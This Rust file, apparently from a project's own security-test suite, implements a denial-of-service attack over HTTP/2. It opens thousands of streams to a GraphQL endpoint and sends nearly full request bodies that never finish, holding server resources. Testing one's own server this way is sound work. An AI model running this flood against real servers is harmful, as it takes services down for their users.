//! Unfinished bodies over HTTP/2, where one connection has many requests.

use std::{future::pending, net::SocketAddr, time::Duration};

use axum::{
    body::Bytes,
    http::{Request, header},
};
use futures_util::future::poll_fn;
use h2::client::{self, SendRequest};
use tokio::{
    net::TcpSocket,
    task::JoinSet,
    time::{Instant, timeout_at},
};

use crate::attacks::{
    attack::{Attack, Tally},
    stage::Stage,
    wire::stranger,
};

const CONNECTIONS: usize = 5;
const STREAMS: usize = 1000;
/// What is sent of each body: almost the most that the server takes.
const SENT: usize = 1024 * 1024 - 1;
const CHUNK: usize = 16 * 1024;

pub fn of_stranger(stage: &Stage) -> Attack {
    attack(stage, None)
}

pub async fn of_user(stage: &Stage) -> Attack {
    attack(stage, stage.user("attacker").await.client.token)
}

fn attack(stage: &Stage, token: Option<String>) -> Attack {
    let (tally, length) = (Tally::default(), stage.length);
    let address = stage.url().trim_start_matches("http://").parse().unwrap();
    let of_run = tally.clone();
    Attack::new(&tally, async move {
        let mut connections = JoinSet::new();
        for _ in 0..CONNECTIONS {
            connections.spawn(connection(of_run.clone(), address, token.clone(), length));
        }
        connections.join_all().await;
    })
}

/// One connection with all its streams, held open until the attack ends.
async fn connection(tally: Tally, address: SocketAddr, token: Option<String>, length: Duration) {
    let end = Instant::now() + length;
    let socket = TcpSocket::new_v4().unwrap();
    socket.bind((stranger(1), 0).into()).unwrap();
    let Ok(stream) = socket.connect(address).await else { return tally.add("no connection".to_owned()) };
    let Ok((sender, connection)) = client::handshake(stream).await else { return tally.add("no HTTP/2".to_owned()) };
    let mut streams = JoinSet::new();
    for _ in 0..STREAMS {
        let (tally, sender, token) = (tally.clone(), sender.clone(), token.clone());
        streams.spawn(async move {
            let ended = timeout_at(end, unfinished(sender, address, token)).await;
            tally.add(ended.unwrap_or_else(|_| "unanswered until the end".to_owned()));
        });
    }
    drop(sender);
    let driver = tokio::spawn(connection);
    streams.join_all().await;
    driver.abort();
}

/// A request whose body is never finished.
async fn unfinished(sender: SendRequest<Bytes>, address: SocketAddr, token: Option<String>) -> String {
    let request = Request::post(format!("http://{address}/graphql")).header(header::CONTENT_TYPE, "application/json");
    let token = token.into_iter().map(|token| format!("Bearer {token}"));
    let request = token.fold(request, |request, token| request.header(header::AUTHORIZATION, token)).body(()).unwrap();
    let broken = |error: h2::Error| match error.reason() {
        Some(reason) => format!("stream ended: {reason:?}"),
        None => "connection broken".to_owned(),
    };
    let begun = async { sender.ready().await?.send_request(request, false) };
    let (response, mut body) = match begun.await {
        Ok(begun) => begun,
        Err(error) => return broken(error),
    };
    let sending = async {
        let mut left = SENT;
        while left > 0 {
            body.reserve_capacity(left.min(CHUNK));
            let Some(Ok(capacity)) = poll_fn(|context| body.poll_capacity(context)).await else { break };
            let size = capacity.min(left);
            if body.send_data(Bytes::from(vec![b' '; size]), false).is_err() {
                break;
            }
            left -= size;
        }
        pending::<()>().await;
    };
    tokio::select! {
        answer = response => answer.map_or_else(broken, |answer| answer.status().as_str().to_owned()),
        () = sending => unreachable!("it never ends"),
    }
}
